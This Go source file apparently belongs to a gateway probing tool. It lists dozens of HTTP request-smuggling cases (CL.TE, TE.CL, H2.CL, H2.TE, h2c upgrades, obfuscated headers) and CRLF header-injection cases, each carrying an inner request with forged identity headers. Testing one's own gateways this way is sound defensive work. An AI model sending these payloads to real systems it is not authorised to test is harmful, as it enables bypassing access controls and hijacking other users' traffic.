package probe

import (
	"fmt"
	"strconv"
	"strings"
)

// inside is a whole request to the echo alone, which never responds to it, so it harms no other reader.
// It has no token, and forged identity headers.
func inside(f forgery) string {
	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: %s\r\nX-Probe-Id: %s\r\n", smuggledPath, f.host, f.inner)
	for _, n := range f.names {
		b.WriteString(n + ": " + f.value + "\r\n")
	}
	b.WriteString("Connection: close\r\n\r\n")
	return b.String()
}

// smuggling are requests whose end two readers may see at different places (RFC 9112, section 11.2). By the length
// they are framed one way, by the coding another; whichever the gateway follows, it must not pass both on.
func smuggling() []attack {
	byCoding := func(lines ...string) func(*message, forgery) { // CL.TE: the coding ends before the inner request
		return func(m *message, f forgery) {
			m.method, m.body = f.method(), "0\r\n\r\n"+inside(f)
			m.add(contentLength(m.body))
			m.add(lines...)
		}
	}
	byLength := func(lines ...string) func(*message, forgery) { // TE.CL: the length ends before the inner request
		return func(m *message, f forgery) {
			in := inside(f)
			size := strconv.FormatInt(int64(len(in)), 16) + "\r\n"
			m.method, m.body = f.method(), size+in+"\r\n0\r\n\r\n"
			m.add("Content-Length: " + strconv.Itoa(len(size)))
			m.add(lines...)
		}
	}
	lengths := func(format ...string) func(*message, forgery) { // {n}: the length of the inner request
		return func(m *message, f forgery) {
			m.method, m.body = f.method(), inside(f)
			for _, l := range format {
				m.add("Content-Length" + strings.ReplaceAll(l, "{n}", strconv.Itoa(len(m.body))))
			}
		}
	}
	chunks := func(head string) func(*message, forgery) {
		return func(m *message, f forgery) {
			m.method, m.body = f.method(), head+inside(f)
			m.add("Transfer-Encoding: chunked")
		}
	}
	list := []attack{
		{name: "two Content-Length, 0 first", h1: lengths(": 0", ": {n}")},
		{name: "two Content-Length, 0 last", h1: lengths(": {n}", ": 0")},
		{name: "Content-Length list", h1: lengths(": 0, {n}")},
		{name: "Content-Length with plus", h1: lengths(": +{n}")},
		{name: "Content-Length negative", h1: lengths(": -1")},
		{name: "Content-Length with space before the colon", h1: lengths(" : {n}")},
		{name: "Content-Length with NUL", h1: lengths("\x00: {n}")},
		{name: "Content-Length in hexadecimal", h1: lengths(": 0x{n}")},
		{name: "Content-Length folded", h1: lengths(":\r\n {n}")},
		{name: "chunk extension with LF", h1: chunks("2;\nxx\r\n0\r\n\r\n")},
		{name: "chunk size with 0x", h1: chunks("0x0\r\n\r\n")},
		{name: "chunk size overflows", h1: chunks("10000000000000000\r\n\r\n0\r\n\r\n")},
		{name: "chunks end in LF", h1: chunks("0\n\n")},
		{name: "chunk longer than its size", h1: chunks("1\r\nprobe\r\n0\r\n\r\n")},
		{name: "Transfer-Encoding in HTTP 1.0", h1: func(m *message, f forgery) { byCoding("Transfer-Encoding: chunked")(m, f); m.version = "HTTP/1.0" }},
		{name: "body of GET", h1: func(m *message, f forgery) { m.body = inside(f); m.add(contentLength(m.body)) }},
		{name: "Expect", h1: func(m *message, f forgery) {
			m.method, m.body = f.method(), inside(f)
			m.add(contentLength(m.body), "Expect: 100-continue")
		}},
		{name: "Expect, obfuscated", h1: func(m *message, f forgery) {
			m.method, m.body = f.method(), inside(f)
			m.add(contentLength(m.body), "Expect: y 100-continue")
		}},
		{name: "Content-Length removed by Connection", h1: func(m *message, f forgery) {
			m.method, m.body = f.method(), inside(f)
			m.add(contentLength(m.body), "Connection: Content-Length")
		}},
		{name: "second request behind the first", h1: func(m *message, f forgery) { m.body = inside(f) }},
		{name: "websocket of a wrong version", h1: func(m *message, f forgery) {
			m.body = inside(f)
			m.add("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777", "Sec-WebSocket-Key: cHJvYmUtcHJvYmUtcHJvYg==")
		}},
		{name: "h2c upgrade", h1: func(m *message, f forgery) {
			m.body = inside(f)
			m.add("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
		}},
		{name: "h2c upgrade, not in Connection", h1: func(m *message, _ forgery) {
			m.add("Connection: Upgrade", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
		}},
		{name: "h2c upgrade before websocket", h1: func(m *message, _ forgery) {
			m.add("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "Upgrade: websocket", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
		}},
		{name: "h2c upgrade after websocket", h1: func(m *message, _ forgery) {
			m.add("Connection: Upgrade, HTTP2-Settings", "Upgrade: websocket", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
		}},
		{name: "h2c upgrade in a list with websocket", h1: func(m *message, _ forgery) {
			m.add("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c, websocket", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")
		}},
		{name: "request line twice", h1: func(m *message, f forgery) { m.target = f.path + " HTTP/1.1\nHost: probe\n\nGET " + f.path }},
	}
	codings := []struct {
		name  string
		lines []string
	}{
		{"Transfer-Encoding", []string{"Transfer-Encoding: chunked"}},
		{"Transfer-Encoding in upper case", []string{"Transfer-Encoding: CHUNKED"}},
		{"Transfer-Encoding unknown", []string{"Transfer-Encoding: xchunked"}},
		{"Transfer-Encoding with space before the colon", []string{"Transfer-Encoding : chunked"}},
		{"Transfer-Encoding with tab", []string{"Transfer-Encoding:\tchunked"}},
		{"Transfer-Encoding with vertical tab", []string{"Transfer-Encoding: \vchunked"}},
		{"Transfer-Encoding quoted", []string{`Transfer-Encoding: "chunked"`}},
		{"Transfer-Encoding list", []string{"Transfer-Encoding: chunked, identity"}},
		{"Transfer-Encoding list, chunked last", []string{"Transfer-Encoding: identity, chunked"}},
		{"Transfer-Encoding twice", []string{"Transfer-Encoding: chunked", "Transfer-Encoding: probe"}},
		{"Transfer-Encoding twice, chunked last", []string{"Transfer-Encoding: probe", "Transfer-Encoding: chunked"}},
		{"Transfer-Encoding folded", []string{"Transfer-Encoding:", " chunked"}},
		{"Transfer-Encoding below another field", []string{"X-Probe-A: a", " Transfer-Encoding: chunked"}},
		{"Transfer-Encoding after LF", []string{"X-Probe-A: a\nTransfer-Encoding: chunked"}},
		{"Transfer-Encoding after CR", []string{"X-Probe-A: a\rTransfer-Encoding: chunked"}},
		{"Transfer-Encoding by underscore", []string{"Transfer_Encoding: chunked"}},
		{"Transfer-Encoding with NUL", []string{"Transfer-Encoding: chunked\x00"}},
		{"Transfer-Encoding removed by Connection", []string{"Transfer-Encoding: chunked", "Connection: Transfer-Encoding"}},
	}
	for _, c := range codings {
		list = append(list, attack{name: "CL.TE, " + c.name, h1: byCoding(c.lines...)}, attack{name: "TE.CL, " + c.name, h1: byLength(c.lines...)})
	}
	list = append(list,
		attack{name: "H2.CL, 0", h2: func(m *message2, f forgery) {
			m.set(":method", f.method())
			m.add("content-length", "0")
			m.body = []byte(inside(f))
		}},
		attack{name: "H2.CL, two", h2: func(m *message2, f forgery) {
			m.set(":method", f.method())
			m.body = []byte(inside(f))
			m.add("content-length", "0")
			m.add("content-length", strconv.Itoa(len(m.body)))
		}},
		attack{name: "H2.TE", h2: func(m *message2, f forgery) {
			m.set(":method", f.method())
			m.add("transfer-encoding", "chunked")
			m.body = []byte("0\r\n\r\n" + inside(f))
		}},
		attack{name: "H2.TE by a line end in a value", h2: func(m *message2, f forgery) {
			m.set(":method", f.method())
			m.add("x-probe-a", "a\r\nTransfer-Encoding: chunked")
			m.body = []byte("0\r\n\r\n" + inside(f))
		}},
		attack{name: "H2.TE by a line end in a name", h2: func(m *message2, f forgery) {
			m.set(":method", f.method())
			m.add("x-probe-a: a\r\ntransfer-encoding", "chunked")
			m.body = []byte("0\r\n\r\n" + inside(f))
		}},
		attack{name: "h2c upgrade over HTTP/2", h2: func(m *message2, _ forgery) { m.add("connection", "upgrade"); m.add("upgrade", "h2c") }},
	)
	for i := range list {
		list[i].name = "smuggling/" + list[i].name
		list[i].wait = settle
	}
	return list
}

// injections are line ends within what HTTP/2 frames by length: a gateway that writes them to a connection of HTTP/1.1
// splits the request there.
func injections() []attack {
	split := func(f forgery) string { return "\r\n\r\n" + inside(f) }
	one := func(f forgery) string {
		var b strings.Builder
		for _, n := range f.names {
			b.WriteString("\r\n" + n + ": " + f.value)
		}
		return b.String()
	}
	return []attack{
		{name: "injection/line in a value", h2: func(m *message2, f forgery) { m.add("x-probe-a", "a"+one(f)) }},
		{name: "injection/line in a name", h2: func(m *message2, f forgery) {
			m.add("x-probe-a: a"+strings.ToLower(one(f))+"\r\nx-probe-b", "b")
		}},
		{name: "injection/line in :path", h2: func(m *message2, f forgery) { m.set(":path", f.path+" HTTP/1.1"+one(f)+"\r\nX-Probe-A: a") }},
		{name: "injection/line in :method", h2: func(m *message2, f forgery) {
			m.set(":method", "GET "+f.path+" HTTP/1.1"+one(f)+"\r\nX-Probe-A: ")
		}},
		{name: "injection/line in :authority", otherHost: true, h2: func(m *message2, f forgery) { m.set(":authority", f.host+one(f)) }},
		{name: "injection/line in :scheme", h2: func(m *message2, f forgery) { m.set(":scheme", "http"+one(f)) }},
		{name: "injection/request in a value", wait: settle, h2: func(m *message2, f forgery) { m.add("x-probe-a", "a"+split(f)) }},
		{name: "injection/request in :path", wait: settle, h2: func(m *message2, f forgery) {
			m.set(":path", f.path+" HTTP/1.1\r\nHost: "+f.host+split(f)+"GET "+f.path)
		}},
		{name: "injection/pseudo-header behind a field", h2: func(m *message2, _ forgery) { m.add(":path", "/probe") }},
		{name: "injection/unknown pseudo-header", h2: func(m *message2, f forgery) {
			for _, n := range f.names {
				m.fields = append([]field{{":" + strings.ToLower(n), f.value}}, m.fields...)
			}
		}},
	}
}
